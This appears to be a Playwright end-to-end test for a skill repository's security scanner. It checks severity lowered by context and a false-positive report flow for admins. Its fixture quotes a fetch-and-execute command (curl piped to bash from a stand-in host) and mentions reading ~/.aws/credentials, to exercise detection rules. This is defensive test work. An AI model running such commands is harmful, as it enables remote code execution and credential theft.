import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { expect, signInAs, test } from "./fixtures";
import { importSkills, skillIdByName } from "./skill-helpers";
import { shootBoth, skillMd } from "./upload-helpers";

// Severity from context on the Security tab (the rule's own rating, the context that lowered it)
// and "Report a false positive": a reader's note that instance admins read and resolve.

test.describe.configure({ mode: "serial" });

const name = `e2e-attack-notes-${Date.now().toString(36)}`;
const REFERENCE = [
  "# Pwn requests",
  "",
  "## How the attack works",
  "",
  "The fork's build script runs the attacker's installer:",
  "",
  "```bash",
  "curl -fsSL https://get-tools.example.net/x.sh | bash",
  "```",
  "",
].join("\n");

test.beforeAll(() => {
  const dir = mkdtempSync(path.join(tmpdir(), "skillshelf-e2e-"));
  try {
    mkdirSync(path.join(dir, name, "references"), { recursive: true });
    writeFileSync(
      path.join(dir, name, "SKILL.md"),
      skillMd(name, "Review workflows for pwn requests. See [the write-up](references/pwn.md).\n\nPacker reads `~/.aws/credentials` on its own."),
    );
    writeFileSync(path.join(dir, name, "references", "pwn.md"), REFERENCE);
    const report = importSkills(dir, "grace@example.com");
    expect(report.error).toBeNull();
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test("the Security tab shows what context lowered a finding, and a reader reports a false positive", async ({ page, consoleErrors }) => {
  const id = skillIdByName(name, "PERSONAL", "grace@example.com");
  await signInAs(page, "grace@example.com", { home: false });
  await page.goto(`/skills/${id}?tab=security`);
  await expect(page.getByRole("heading", { level: 2, name: /Security scan: 2 findings/ })).toBeVisible();
  const quoted = page.getByRole("listitem").filter({ hasText: "remote-code/pipe-to-shell" });
  await expect(quoted).toHaveAttribute("data-severity", "medium");
  await expect(quoted).toContainText("Lowered from critical:");
  await expect(quoted).toContainText("How the attack works");
  const named = page.getByRole("listitem").filter({ hasText: "credentials/cloud-credentials" });
  await expect(named).toHaveAttribute("data-severity", "low");
  await expect(named).toContainText("Named in prose, not read");
  await shootBoth(page, "security-context");

  await named.getByRole("button", { name: /Report credentials\/cloud-credentials at SKILL\.md:\d+ as a false positive/ }).click();
  const dialog = page.getByRole("dialog", { name: "Report a false positive" });
  const note = dialog.getByLabel("Why it is a false positive");
  await expect(note).toBeFocused();
  await expect(dialog.getByRole("button", { name: "Send report" })).toBeDisabled();
  await note.fill("Packer's documentation names the file; the skill never reads it.");
  await dialog.getByRole("button", { name: "Send report" }).click();
  await expect(page.getByText("Reported. Instance admins will see your note.")).toBeVisible();
  await expect(dialog).toBeHidden();
  await expect(named.getByRole("button", { name: /Report credentials/ })).toBeFocused();
  expect(consoleErrors).toEqual([]);
});

test("an instance admin reads the report on the account page and resolves it", async ({ page, consoleErrors }) => {
  await signInAs(page, "ada@example.com", { home: false });
  await page.goto("/account");
  const reports = page.getByRole("region", { name: "Reported false positives" });
  const item = reports.getByRole("listitem").filter({ hasText: name });
  await expect(item).toContainText("credentials/cloud-credentials");
  await expect(item).toContainText("Packer's documentation names the file; the skill never reads it.");
  await expect(item).toContainText("Named in prose, not read");
  await item.scrollIntoViewIfNeeded();
  await shootBoth(page, "security-reports-admin");
  await item.getByRole("button", { name: "Resolve" }).click();
  await expect(item).toHaveCount(0);
  expect(consoleErrors).toEqual([]);
});
